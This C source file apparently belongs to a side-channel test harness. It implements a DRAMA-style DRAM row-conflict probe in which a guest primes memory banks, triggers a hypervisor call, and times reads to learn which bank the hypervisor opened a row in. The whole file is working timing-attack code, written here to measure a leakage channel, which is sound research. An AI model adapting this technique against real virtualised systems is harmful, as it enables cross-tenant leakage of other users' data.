/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Channel open-rows: in which bank of memory the hypervisor opened a row.
 *
 * DRAMA (Pessl, Gruss, Maurice, Schwarz, Mangard, USENIX Security 2016), row conflicts: the
 * attacker opens a row of its own in every bank, lets the victim run, and reads its rows again. The
 * bank in which the victim read has to close the victim's row first. How long that takes at least
 * the attacker learns from rows of its own; what takes longer met another request or a refresh as
 * well. The observation is the bank whose time is the shortest that a row conflict can take.
 */
#include "leak.h"

enum { BANKS = 4, ROW = LEAK_BANK_BYTES, STRIDE = 8 * ROW, ROWS = 48, COLUMNS = ROW / LINE };
/* Rows that leak_warm() has read, and a row behind what 400 symbols use. */
enum { WARM = 8, TRIALS = 16, TRIAL_ROW = 24 };

/* A line of this bank that no cache holds: each is used once in ROWS * COLUMNS accesses. */
static const uint8_t *fresh(uint64_t n, uint64_t bank)
{
    return leak_memory() + (WARM + n / COLUMNS) % ROWS * STRIDE + bank * ROW + n % COLUMNS * LINE;
}

/* Called with the address in a register: its computation is not part of the time. */
static __attribute__((noinline)) uint64_t time_of(const uint8_t *line)
{
    return leak_time(line);
}

/* The shortest time of a read behind another row of the same bank. */
static uint64_t conflict(void)
{
    uint64_t shortest = ~0ull;

    for (uint64_t n = TRIAL_ROW * COLUMNS; n < TRIAL_ROW * COLUMNS + TRIALS; n++) {
        uint64_t time;

        leak_touch(fresh(n, 0));
        time = time_of(fresh(n + COLUMNS, 0));
        shortest = time < shortest ? time : shortest;
    }
    return shortest;
}

void guest_main(void)
{
    uint64_t least;

    leak_warm();
    least = conflict();
    for (uint64_t i = 0; i < leak_parameters.symbols; i++) {
        uint64_t found = 0;
        uint64_t shortest = ~0ull;

        for (uint64_t bank = 0; bank < BANKS; bank++) {
            leak_touch(fresh(2 * i, bank));
        }
        (void)leak_call(LEAK_ROW, BANKS);
        for (uint64_t bank = 0; bank < BANKS; bank++) {
            const uint64_t time = time_of(fresh(2 * i + 1, bank));

            if (time >= least && time < shortest) {
                shortest = time;
                found = bank;
            }
        }
        leak_record(found);
    }
    leak_report();
}
